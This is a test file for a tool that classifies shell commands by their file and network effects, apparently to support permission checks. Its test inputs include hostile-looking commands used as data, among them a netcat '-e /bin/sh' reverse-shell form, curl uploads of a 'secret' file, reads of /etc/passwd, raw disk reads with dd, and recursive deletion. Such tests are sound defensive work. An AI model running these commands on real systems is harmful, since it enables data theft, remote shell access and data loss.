// docs/shell.md: the known-program table (data) and the effects it gives.

import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { knownProgramNames } from '../../../src/describe/shell/index.js';
import { checkTable } from '../../../src/describe/shell/programs.js';
import { scanSedScript } from '../../../src/describe/shell/sed-script.js';
import { at, describe_, forms, home, hosts, root, unresolvedWhys } from './helpers.js';

describe('the table', () => {
  test('lists at least every program of docs/shell.md', () => {
    const required = (
      'cat head tail less more nl wc sort uniq cut od xxd hexdump strings stat file md5sum sha1sum sha256sum base64 diff cmp jq ' +
      'grep egrep fgrep rg ag sed cp install mv rm rmdir touch mkdir chmod chown chgrp truncate ln unlink shred tee dd find ' +
      'ls tree du curl wget ssh scp sftp rsync nc ncat telnet ftp git'
    ).split(' ');
    const names = new Set(knownProgramNames());
    expect(required.filter((p) => !names.has(p))).toEqual([]);
  });

  test('every entry of the shipped table passes the validator (entries are checked lazily at run time)', () => {
    const shipped = JSON.parse(fs.readFileSync(path.join(__dirname, '../../../src/describe/shell/programs.json'), 'utf8'));
    expect(checkTable(shipped).programs.size).toBe(knownProgramNames().length);
  });

  test('the validator rejects malformed entries', () => {
    const base = { harmlessEnvironment: { names: [], prefixes: [] } };
    expect(() => checkTable({ ...base, programs: { x: { operands: 'eat', options: {} } } })).toThrow(/bad effect/);
    expect(() => checkTable({ ...base, programs: { x: { operands: 'read', options: { o: {} } } } })).toThrow(/must start with -/);
    expect(() => checkTable({ ...base, programs: { x: { operands: 'read', options: { '-o': { effect: 'write' } } } } })).toThrow(/effect without value/);
    expect(() => checkTable({ ...base, programs: { x: { operands: 'read', options: {}, typo: 1 } } })).toThrow(/unknown key/);
  });
});

describe('file effects', () => {
  beforeAll(() => {
    fs.mkdirSync(path.join(root, 'destdir'), { recursive: true });
  });

  test('readers read their operands, not their option values', async () => {
    const actions = await describe_('head -n 5 a b; tail -c 3 c; sort -k 2 -t , d; cut -d : -f 1 e; jq .x f.json');
    expect(forms(actions, 'file.read')).toEqual([at('a'), at('b'), at('c'), at('d'), at('e'), at('f.json')]);
  });

  test('sort -o, uniq IN OUT and xxd IN OUT write', async () => {
    expect(forms(await describe_('sort -o out in'), 'file.write')).toEqual([at('out')]);
    expect(forms(await describe_('uniq in out'), 'file.write')).toEqual([at('out')]);
    expect(forms(await describe_('xxd -r in out'), 'file.write')).toEqual([at('out')]);
  });

  test('grep: operands after the pattern; with -e or -f all of them; recursion is reach', async () => {
    expect(forms(await describe_('grep foo a b'), 'file.read')).toEqual([at('a'), at('b')]);
    expect(forms(await describe_('grep -e foo a'), 'file.read')).toEqual([at('a')]);
    expect(forms(await describe_('grep -f pats a'), 'file.read')).toEqual([at('pats'), at('a')]);
    expect(forms(await describe_('grep -rn foo src'), 'file.read', 'reach')).toEqual([at('src')]);
    expect(forms(await describe_('grep -d recurse foo src'), 'file.read', 'reach')).toEqual([at('src')]);
    expect(forms(await describe_('grep -R foo'), 'file.read', 'reach')).toEqual([root]);
    expect(forms(await describe_('rg foo'), 'file.read', 'reach')).toEqual([root]);
    expect(forms(await describe_('ag foo ../other'), 'file.read', 'reach')).toEqual([path.dirname(root) + '/other']);
  });

  test('an unknown word that may be an option makes every reading possible', async () => {
    const actions = await describe_('grep $OPTS foo secrets');
    expect(forms(actions, 'file.read', 'reach')).toContain(at('secrets'));
    expect(forms(await describe_('sed $X s/a/b/ f'), 'file.write', 'reach')).toContain(at('f'));
  });

  test('sed: script then files; -i writes; scripts that write, read or run', async () => {
    expect(forms(await describe_('sed s/a/b/ f'), 'file.read')).toEqual([at('f')]);
    expect(forms(await describe_('sed -i.bak -e s/a/b/ f'), 'file.write')).toEqual([at('f')]);
    expect(forms(await describe_('sed --in-place s/a/b/ f'), 'file.write')).toEqual([at('f')]);
    expect(forms(await describe_("sed -n 'w out' f"), 'file.write')).toEqual([at('out')]);
    expect(forms(await describe_("sed 's/a/b/w out' f"), 'file.write')).toEqual([at('out')]);
    expect(forms(await describe_("sed '1r secret' f"), 'file.read')).toEqual([at('secret'), at('f')]);
    expect(unresolvedWhys(await describe_("sed 's/a/id/e' f"))).toContain('dynamic command');
    expect(unresolvedWhys(await describe_("sed '1e id' f"))).toContain('dynamic command');
    expect(unresolvedWhys(await describe_('sed -f script.sed f'))).toContain('dynamic command');
    expect(scanSedScript('s/a/b/g; /x/d; 1,3p; $!N; y/ab/cd/')).toEqual({ reads: [], writes: [], executes: false });
  });

  test('cp/mv/install/ln: sources and destination; an existing directory receives the sources', async () => {
    let actions = await describe_('cp a b');
    expect(forms(actions, 'file.read')).toEqual([at('a')]);
    expect(forms(actions, 'file.write')).toEqual([at('b')]);
    actions = await describe_('cp a src/b destdir');
    expect(forms(actions, 'file.write')).toEqual([at('destdir/a'), at('destdir/b')]);
    actions = await describe_('cp -r src dst');
    expect(forms(actions, 'file.read', 'reach')).toEqual([at('src')]);
    expect(forms(actions, 'file.write', 'reach')).toEqual([at('dst')]);
    actions = await describe_('cp -t destdir a');
    expect(forms(actions, 'file.write')).toEqual([at('destdir/a')]);
    actions = await describe_('mv old new');
    expect(forms(actions, 'file.write', 'reach')).toEqual([at('old'), at('new')]);
    actions = await describe_('ln -s /etc/passwd link');
    expect(forms(actions, 'file.write')).toEqual([at('link')]);
    actions = await describe_('install -d a b');
    expect(forms(actions, 'file.write')).toEqual([at('a'), at('b')]);
  });

  test('writers', async () => {
    const actions = await describe_('rm a; rmdir b; touch c; mkdir -p d/e; chmod 600 f; chown u:g h; truncate -s 0 i; unlink j; shred k; tee -a l');
    expect(forms(actions, 'file.write')).toEqual(['a', 'b', 'c', 'd/e', 'f', 'h', 'i', 'j', 'k', 'l'].map(at));
    expect(forms(await describe_('rm -rf build'), 'file.write', 'reach')).toEqual([at('build')]);
    expect(forms(await describe_('chmod -R 755 dir'), 'file.write', 'reach')).toEqual([at('dir')]);
    expect(forms(await describe_('touch -r ref x'), 'file.read')).toEqual([at('ref')]);
  });

  test('dd if= and of=', async () => {
    const actions = await describe_('dd if=/dev/sda of=disk.img bs=1M');
    expect(forms(actions, 'file.read')).toEqual(['/dev/sda']);
    expect(forms(actions, 'file.write')).toEqual([at('disk.img')]);
  });

  test('ls, tree, du and find', async () => {
    expect(forms(await describe_('ls'), 'file.read')).toEqual([root]);
    expect(forms(await describe_('ls -la src'), 'file.read')).toEqual([at('src')]);
    expect(forms(await describe_('ls -R src'), 'file.read', 'reach')).toEqual([at('src')]);
    expect(forms(await describe_('tree'), 'file.read', 'reach')).toEqual([root]);
    expect(forms(await describe_('du -sh ~'), 'file.read', 'reach')).toEqual([home]);
    expect(forms(await describe_('find src lib -name x'), 'file.read', 'reach')).toEqual([at('src'), at('lib')]);
    expect(forms(await describe_('find -L . -type f'), 'file.read', 'reach')).toEqual([root]);
    expect(forms(await describe_('find build -delete'), 'file.write', 'reach')).toEqual([at('build')]);
    expect(forms(await describe_('find . -fprint out'), 'file.write')).toEqual([at('out')]);
  });

  test('globs with a literal directory prefix are reach of the prefix; unknown operands unresolved', async () => {
    expect(forms(await describe_('cat src/*.txt'), 'file.read', 'reach')).toEqual([at('src')]);
    expect(forms(await describe_('rm logs/**/x'), 'file.write', 'reach')).toEqual([at('logs')]);
    expect(forms(await describe_('cat *.md'), 'file.read', 'reach')).toEqual([root]);
    expect(forms(await describe_('cat /etc/*'), 'file.read', 'reach')).toEqual(['/etc']);
    expect(forms(await describe_('cat src/.*'), 'file.read', 'reach')).toEqual(['?src/.*']);
    expect(forms(await describe_('cat -- "$F"'), 'file.read')).toEqual(['?"$F"']);
    // Before `--` an unknown word may be -r: the read may recurse.
    expect(forms(await describe_('cat "$F"'), 'file.read', 'reach')).toEqual(['?"$F"']);
    expect(forms(await describe_('cat {a,../b}'), 'file.read', 'reach')).toEqual(['?{a,../b}']);
    expect(forms(await describe_('cat "*.md"'), 'file.read')).toEqual([at('*.md')]);
  });

  test('cd moves later relative paths (both bases: a failed cd stays put)', async () => {
    expect(forms(await describe_('cd sub && cat x'), 'file.read')).toEqual([at('x'), at('sub/x')]);
    expect(forms(await describe_('cd /etc; cat passwd'), 'file.read')).toEqual([at('passwd'), '/etc/passwd']);
    expect(forms(await describe_('(cd /etc); cat passwd'), 'file.read')).toEqual([at('passwd')]);
    expect(forms(await describe_('cd "$D"; cat x'), 'file.read')).toEqual(['?x']);
    expect(forms(await describe_('cd -; cat x'), 'file.read')).toEqual(['?x']);
    expect(forms(await describe_('cd; cat x'), 'file.read')).toEqual([at('x'), `${home}/x`]);
    expect(forms(await describe_('for d in a b; do cat x; cd sub; done'), 'file.read')).toEqual(['?x']);
    expect(forms(await describe_('cd /etc; cat /abs'), 'file.read')).toEqual(['/abs']);
    expect(await describe_('cd /tmp')).toEqual([{ cap: 'shell.exec', argv: ['cd', '/tmp'], program: 'cd', command: 'cd /tmp' }]);
  });
});

describe('network effects', () => {
  test('curl and wget', async () => {
    let actions = await describe_("curl -sSL 'https://Example.COM./a?b=1#frag'");
    expect(actions.find((a) => a.cap === 'network.fetch')).toMatchObject({ host: 'example.com', url: 'https://example.com/a?b=1' });
    // Unquoted, `?` is a glob: the URL is not known.
    expect(hosts(await describe_('curl https://a.io/x?y=1'))).toEqual(['?dynamic url']);
    actions = await describe_('curl -o out.html example.org/x');
    expect(hosts(actions)).toEqual(['example.org']);
    expect(forms(actions, 'file.write')).toEqual([at('out.html')]);
    actions = await describe_('curl -O https://h.io/dir/file.tgz');
    expect(forms(actions, 'file.write')).toEqual([at('file.tgz')]);
    actions = await describe_('curl -T secret https://h.io/ -d @body -F f=@upload.bin --data-urlencode n@enc');
    expect(forms(actions, 'file.read')).toEqual([at('secret'), at('body'), at('upload.bin'), at('enc')]);
    expect(hosts(await describe_('curl -x proxy.corp:3128 https://a.io'))).toEqual(['proxy.corp', 'a.io']);
    expect(hosts(await describe_('curl "https://{a,b}.evil.io"'))).toEqual(['?url glob']);
    expect(hosts(await describe_('curl "$URL"'))).toEqual(['?dynamic url']);
    expect(forms(await describe_('curl file:///etc/passwd'), 'file.read')).toEqual(['/etc/passwd']);
    expect(unresolvedWhys(await describe_('curl -K cfg https://a.io'))).toContain('dynamic command');
    actions = await describe_('wget https://h.io/f.tgz');
    expect(forms(actions, 'file.write')).toEqual([at('f.tgz')]);
    actions = await describe_('wget -O - https://h.io/f | cat');
    expect(forms(actions, 'file.write')).toEqual([at('-')]);
    expect(forms(await describe_('wget -r -P mirror https://h.io/'), 'file.write', 'reach')).toContain(at('mirror'));
  });

  test('ssh, scp, rsync, nc, telnet, ftp, sftp', async () => {
    expect(hosts(await describe_('ssh -p 22 -i key user@Git.Example.com ls -la'))).toEqual(['git.example.com']);
    expect(hosts(await describe_('ssh ssh://u@h.io:2222'))).toEqual(['h.io']);
    expect(unresolvedWhys(await describe_('ssh -o ProxyCommand="sh -c x" h'))).toContain('dynamic command');
    let actions = await describe_('scp -r dir u@h.io:/tmp/');
    expect(hosts(actions)).toEqual(['h.io']);
    expect(forms(actions, 'file.read', 'reach')).toEqual([at('dir')]);
    actions = await describe_('scp h.io:/etc/passwd ./local');
    expect(forms(actions, 'file.write')).toEqual([at('local')]);
    expect(hosts(await describe_('rsync -av src/ backup.io::mod'))).toEqual(['backup.io']);
    expect(unresolvedWhys(await describe_('rsync -e "ssh -x" a h:b'))).toContain('dynamic command');
    expect(hosts(await describe_('nc -v 10.0.0.1 4444'))).toEqual(['10.0.0.1']);
    expect(hosts(await describe_('nc -l 4444'))).toEqual([]);
    expect(unresolvedWhys(await describe_('nc -e /bin/sh h 1'))).toContain('dynamic command');
    expect(hosts(await describe_('telnet h.io 23; ftp f.io; sftp u@s.io'))).toEqual(['h.io', 'f.io', 's.io']);
    expect(hosts(await describe_('ssh $HOST'))).toEqual(['?dynamic host']);
  });
});
